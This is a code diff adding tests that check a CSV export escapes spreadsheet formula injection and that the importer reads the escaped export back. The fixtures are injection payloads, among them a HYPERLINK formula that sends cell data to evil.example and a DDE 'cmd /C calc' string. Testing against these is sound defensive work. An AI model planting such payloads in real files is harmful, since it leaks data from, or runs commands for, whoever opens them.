@@ -1,12 +1,13 @@
 import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import path from "node:path";
+import { parse as parseCsv } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { prisma } from "~/lib/db.server.ts";
 import { loadActor } from "~/modules/auth/actor.server.ts";
 import type { Actor } from "~/modules/auth/permissions.ts";
 import { startSession } from "~/modules/auth/session.server.ts";
-import { exportListings, importCatalogue, loadProvinceIndex, type ImportReport } from "~/modules/listings/import.server.ts";
+import { exportListings, importCatalogue, loadProvinceIndex, parseCatalogue, type ImportReport } from "~/modules/listings/import.server.ts";
 import { expiryFrom } from "~/modules/listings/lifecycle.ts";
 import { action as importAction, loader as importLoader } from "~/routes/import.tsx";
 import { loader as exportLoader } from "~/routes/listings.export.tsx";
@@ -426,6 +427,70 @@ describe("export", () => {
     expect(JSON.parse(await json.text())).toEqual([expect.objectContaining({ externalRef: own.id, organisation: expect.objectContaining({ id: organisation.id }) })]);
     const bad = await exportLoader({ request: getRequest("/listings/export?format=xlsx", await cookieFor(user.id)), params: {}, context: { clientIp: "203.0.113.9" } });
     expect(bad.status).toBe(400);
+  });
+});
+
+describe("export against formula injection", () => {
+  // Titles a spreadsheet would run as formulas (OWASP's characters), one that already starts with a quote, one that is safe.
+  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1+1", "'=quoted", "'plain"];
+
+  /** The export's cells as a spreadsheet reads them: records keyed by column, CR kept as it was written. */
+  function cells(csv: string) {
+    const [head, ...body] = parseCsv(csv.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][];
+    return body.map((record) => Object.fromEntries(head!.map((column, i) => [column, record[i]!])));
+  }
+
+  it("writes every cell that could start a formula with a leading quote, numbers as numbers", async () => {
+    const { actor } = await brokerActor();
+    const organisation = await createOrganisation({ name: "=cmd|' /C calc'!A0" });
+    const listings = [];
+    for (const title of FORMULAS) listings.push(await createListing(organisation.id, { title, keywords: ["@mention", "an toàn"], priceMin: 1_000_000n, currency: "VND" }));
+    const csv = await exportListings(actor, { format: "csv", organisationId: organisation.id });
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+
+    const rows = new Map(cells(csv).map((row) => [row.externalRef, row]));
+    const expected: Record<string, string> = {
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")': `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
+      "+1": "'+1",
+      "-2+3": "'-2+3",
+      "@SUM(A1)": "'@SUM(A1)",
+      "\tx": "'\tx",
+      "\rx": "'\rx",
+      "  =1+1": "'  =1+1",
+      "'=quoted": "''=quoted",
+      "'plain": "'plain",
+    };
+    for (const listing of listings) {
+      const row = rows.get(listing.id)!;
+      expect(row.title, JSON.stringify(listing.title)).toBe(expected[listing.title]);
+      expect(row["organisation.name"]).toBe("'=cmd|' /C calc'!A0");
+      expect(row.keywords).toBe("'@mention; an toàn");
+      expect(row.summary).toBe(listing.summary);
+      expect(row["price.min"]).toBe("1000000");
+    }
+    // No cell of the file starts with a formula character unguarded.
+    for (const row of rows.values()) for (const value of Object.values(row)) expect(value, value).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it("reads its own export back to the same titles", async () => {
+    const { actor } = await brokerActor();
+    const organisation = await createOrganisation({ name: unique("Công ty Cổ phần Bảng tính") });
+    const titles = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1 đường dây nóng", "-2+3 cmd|' /C calc'!A0", "@SUM(A1) chi phí", "'=đã có dấu nháy"];
+    for (const title of titles) await createListing(organisation.id, { title });
+    const csv = await exportListings(actor, { format: "csv", organisationId: organisation.id });
+
+    const report = await importCatalogue(actor, { fileName: "export.csv", content: csv });
+    expect(report.failed, JSON.stringify(report.rows.filter((r) => r.status === "failed"))).toBe(0);
+    expect(report).toMatchObject({ total: titles.length, unchanged: titles.length, created: 0, updated: 0 });
+    const stored = await prisma.listing.findMany({ where: { organisationId: organisation.id }, select: { title: true } });
+    expect(stored.map((l) => l.title).sort()).toEqual([...titles].sort());
+
+    // Leading tabs and carriage returns come back as the importer reads any such text (a CR as a line feed), without the guard's quote.
+    const odd = await createOrganisation({ name: unique("Tổ chức ký tự lạ") });
+    await createListing(odd.id, { title: "\tx" });
+    await createListing(odd.id, { title: "\rx" });
+    const parsed = parseCatalogue("export.csv", await exportListings(actor, { format: "csv", organisationId: odd.id }));
+    expect(parsed.ok && parsed.rows.map((r) => (r.data as { title: string }).title).sort()).toEqual(["\tx", "\nx"]);
   });
 });
 
